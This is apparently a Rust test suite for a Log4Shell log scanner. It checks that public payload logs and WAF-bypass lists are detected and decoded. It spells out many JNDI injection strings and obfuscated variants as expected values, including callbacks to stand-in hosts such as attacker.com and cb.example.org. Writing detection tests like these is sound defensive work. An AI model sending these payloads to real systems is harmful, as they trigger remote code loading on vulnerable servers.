//! Extended tier: the public test data in `../shared/testdata/logs`.

use praxcheck_logscan::decode::decode_str;
use praxcheck_model::EvidenceLevel;

use crate::support::scan_one;

const CALLBACK: &str = "cb.example.org";
const RANDOM: &str = "r4nd0m";

fn is_negative(name: &str) -> bool {
    name.contains("shouldnt-match") || name.contains("shouldntmatch")
}

#[test]
fn neo23x0_positives_found_and_negatives_clean() {
    let Some(td) = praxcheck_testsupport::testdata("neo23x0_positives_found_and_negatives_clean")
    else {
        return;
    };
    let dir = td.join("logs/neo23x0");
    let mut names: Vec<String> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert!(names.len() >= 25, "{names:?}");
    let mut positives = 0;
    for name in &names {
        let s = scan_one(&dir.join(name));
        assert!(s.unreadable.is_empty(), "{name}: {:?}", s.unreadable);
        if is_negative(name) {
            assert!(
                s.evidence.is_empty(),
                "{name}: false alarm {:?}",
                s.evidence
            );
        } else {
            positives += 1;
            assert!(!s.evidence.is_empty(), "{name}: missed");
        }
    }
    assert!(positives >= 18);
    // Exact expectations for the plain files (compressed copies must agree).
    let expect: &[(&str, &[(u64, &str)])] = &[
        (
            "test-log-log4shell.log",
            &[(3, "${jndi:ldap://tj5udg.dnslog.cn}")],
        ),
        (
            "test-log-log4shell-casing.log",
            &[(1, "${jNdI:ldAp://tj5udg.dnslog.cn}")],
        ),
        (
            "test-log-log4shell-obf1.log",
            &[(1, "${jndi:ldap://spfcbf.dnslog.cn}")],
        ),
        (
            "test-log-heavy-obfusc.log",
            &[(1, "${jndi:ldap://attacker.com/a}")],
        ),
        (
            "test-log-log4shell-base64.log",
            &[(1, "${jndi:ldap:addr}"), (2, "${jndi:ldap://addr")],
        ),
        (
            "test-url-encoded.log",
            &[
                (1, "${jndi:ldap://tj5udg.dnslog.cn}"),
                (2, "${jndi:ldap://tj5udg.dnslog.cn}"),
                (3, "${jndi:ldap://tj5udg.dnslog.cn}"),
            ],
        ),
        (
            "test-java-exception.log",
            &[(1, "ldap://192.168.1.15:1337/e")],
        ),
    ];
    for (name, want) in expect {
        for suffix in ["", ".gz", ".zst"] {
            let p = dir.join(format!("{name}{suffix}"));
            if !p.exists() {
                continue;
            }
            let got: Vec<(u64, String)> = scan_one(&p)
                .evidence
                .iter()
                .map(|e| (e.line, e.payload.clone().unwrap_or_default()))
                .collect();
            let want: Vec<(u64, String)> =
                want.iter().map(|(l, p)| (*l, (*p).to_owned())).collect();
            assert_eq!(got, want, "{name}{suffix}");
        }
    }
    // The exception log shows the lookup ran.
    let s = scan_one(&dir.join("test-java-exception.log"));
    assert_eq!(s.evidence[0].level, EvidenceLevel::LookupExecuted);
    let cb = s.evidence[0].callback.as_ref().unwrap();
    assert_eq!(
        (cb.host.as_deref(), cb.port),
        (Some("192.168.1.15"), Some(1337))
    );
    // Woodpecker's generator output: all five forms.
    let s = scan_one(&dir.join("woodpecker-payload-gen.txt"));
    assert_eq!(s.evidence.len(), 5);
    for e in &s.evidence {
        assert!(
            e.payload
                .as_deref()
                .unwrap()
                .eq_ignore_ascii_case("${jndi:ldap://127.0.0.1:1099/obj}")
        );
    }
}

fn substitute(s: &str) -> String {
    s.replace("{{callback_host}}", CALLBACK)
        .replace("{{random}}", RANDOM)
}

/// Decodes one payload and returns the single hit's text.
fn decoded(input: &str) -> String {
    let hits = decode_str(input);
    assert_eq!(hits.len(), 1, "{input:?}: {hits:?}");
    hits[0].payload.clone()
}

#[test]
fn log4shell_rex_payloads_decode() {
    let Some(td) = praxcheck_testsupport::testdata("log4shell_rex_payloads_decode") else {
        return;
    };
    let mut rdr = csv::Reader::from_path(td.join("logs/payloads/log4shell-rex.csv")).unwrap();
    let inputs: Vec<String> = rdr
        .records()
        .map(|r| r.unwrap().get(0).unwrap().to_owned())
        .collect();
    // What Log4j's substitution makes of each (comments: what is special about it).
    let want = [
        // \044 octal, %7B, \\44 double-escaped octal, \u0024, braces closed early.
        "${jnd}i:dns:/addr}",
        // dotless ı upper-cased to I.
        "${jndI:rmI://addr}",
        "${jndi:ldap:addr}",
        "${jndi:ldap://addr}",
        // `$a{upper:d}` is no lookup; the `}` after it ends the JNDI lookup.
        "${jndi:ldap://$a{upper:d}",
        // Unterminated.
        "${jndi:ldap://addr",
        "${jndi:dns://addr}",
        "${jndi:dns:${jndi:pwd}${jndi:pwd}addr}",
        // URL-encoded with %C4%B1 (ı), no host.
        "${jndI:ldap://",
        // The same twice URL-encoded.
        "${jndI:ldap://",
        // Multi-line record: the payload line.
        "${jndi:dns://addr}",
        "${jndi:ldap://127.0.0.1:1099/obj}",
        "${Jndi:ldap://127.0.0.1:1099/obj}",
        "${Jndi:ldap://127.0.0.1:1099/obj}",
        "${jndi:ldap://127.0.0.1:1099/obj}",
        "${jndi:ldap://127.0.0.1:1099/obj}",
    ];
    assert_eq!(inputs.len(), want.len(), "17 lines with the header");
    for (input, want) in inputs.iter().zip(want) {
        assert_eq!(decoded(input), want, "{input:?}");
        let norm = want.replace("${", "").replace('}', "").to_ascii_lowercase();
        assert!(norm.starts_with("jndi:"), "{want}");
    }
}

#[test]
fn fullhunt_payloads_decode() {
    let Some(td) = praxcheck_testsupport::testdata("fullhunt_payloads_decode") else {
        return;
    };
    let dir = td.join("logs/payloads");
    let read = |name: &str| -> Vec<String> {
        std::fs::read_to_string(dir.join(name))
            .unwrap()
            .lines()
            .filter(|l| !l.trim().is_empty())
            .map(substitute)
            .collect()
    };
    let waf = read("fullhunt-waf_bypass_payloads.txt");
    let cb = CALLBACK;
    let r = RANDOM;
    let want_waf = [
        format!("${{jndi:rmi://{cb}/{r}}}"),
        format!("${{jndi:rmi://{cb}/{r}}}"),
        format!("${{jndi:rmi://{cb}/{r}}}"),
        format!("${{jndi:rmi://{cb}}}"),
        format!("${{jndi:rmi://{cb}/{r}}}"),
        format!("${{jndi:rmi://{cb}/{r}}}"),
        format!("${{jndi:rmi://{cb}/{r}}}"),
        // Braces close after the protocol; the address follows.
        format!("${{jNdI:rmi}}://{cb}/{r}}}"),
        format!("${{jndi:dns://{cb}/{r}}}"),
        format!("${{jndi:ldap://{cb}/{r}}}"),
        format!("${{jndi:dns://{cb}}}"),
        format!("${{jNDi:ldap://{cb}/{r}}}"),
        format!("${{jNDi:ldap://{cb}/{r}}}"),
        format!("${{jNDi:ldap://{cb}/{r}}}"),
        format!("${{jNDi:ldap://{cb}/{r}}}"),
        format!("${{JNDi:ldap://{cb}/{r}}}"),
        // `{sd:k5:-:}` without `$` is text; its `}` ends the lookup.
        format!("${{JNDi:ldap{{sd:k5:-:}}//{cb}/{r}}}"),
        format!("${{JNDi:ldap://{cb}/{r}}}"),
        format!("${{jNDi:ldap://{cb}/{r}"),
        format!("${{JNDi:ldap://{cb}/{r}}}"),
        format!("${{jndi:ldap://{cb}}}"),
        format!("${{jndI:ldap://{cb}/{r}}}"),
        format!("${{jndi:ldap://{cb}/{r}}}"),
    ];
    assert_eq!(waf.len(), want_waf.len());
    for (input, want) in waf.iter().zip(&want_waf) {
        let hits = decode_str(input);
        assert_eq!(hits.len(), 1, "{input}");
        assert_eq!(&hits[0].payload, want, "{input}");
        let c = hits[0].callback.as_ref().unwrap();
        assert_eq!(c.host.as_deref(), Some(cb), "{input}");
    }
    let cve = read("fullhunt-cve_2021_45046.txt");
    let want_cve = [
        (
            format!("${{jndi:ldap://127.0.0.1#{cb}:1389/{r}}}"),
            Some(1389),
        ),
        (format!("${{jndi:ldap://127.0.0.1#{cb}/{r}}}"), None),
        (format!("${{jndi:ldap://127.1.1.1#{cb}/{r}}}"), None),
    ];
    for (input, (want, port)) in cve.iter().zip(&want_cve) {
        let hits = decode_str(input);
        assert_eq!(&hits[0].payload, want);
        let c = hits[0].callback.as_ref().unwrap();
        assert!(c.host.as_deref().unwrap().ends_with(&format!("#{cb}")));
        assert_eq!(c.port, *port);
    }
    // CVE-2022-42889 (Apache Commons Text) payloads are not Log4Shell: no JNDI.
    for input in read("fullhunt-cve_2022_42889.txt") {
        assert!(decode_str(&input).is_empty(), "{input}");
    }
    // Header names are not payloads.
    for input in read("fullhunt-headers.txt") {
        assert!(decode_str(&input).is_empty(), "{input}");
    }
}

#[test]
fn payload_files_scanned_as_logs_in_every_container() {
    // The payload lists themselves, written as log lines inside each container kind.
    let Some(td) = praxcheck_testsupport::testdata("payload_files_scanned_as_logs") else {
        return;
    };
    let text =
        std::fs::read_to_string(td.join("logs/payloads/fullhunt-waf_bypass_payloads.txt")).unwrap();
    let log: String = text
        .lines()
        .map(|l| {
            format!(
                "2021-12-11 10:00:00 INFO Anfrage von Herrn Öztürk: {}\n",
                substitute(l)
            )
        })
        .collect();
    let n = text.lines().count();
    let dir = tempfile::tempdir().unwrap();
    let b = log.as_bytes();
    for (name, data) in [
        ("a.log", b.to_vec()),
        ("a.log.1.gz", crate::support::gzip(b)),
        ("a.log.2.zst", crate::support::zstd(b)),
        ("a.log.3.bz2", crate::support::bzip2(b)),
        ("a.log.4.xz", crate::support::xz(b)),
        ("a.zip", crate::support::zip(&[("a.log", b)])),
    ] {
        let p = crate::support::write(dir.path(), name, &data);
        let s = scan_one(&p);
        assert_eq!(s.evidence.len(), n, "{name}");
        assert!(s.evidence.iter().all(|e| e.timestamp.is_some()));
    }
}
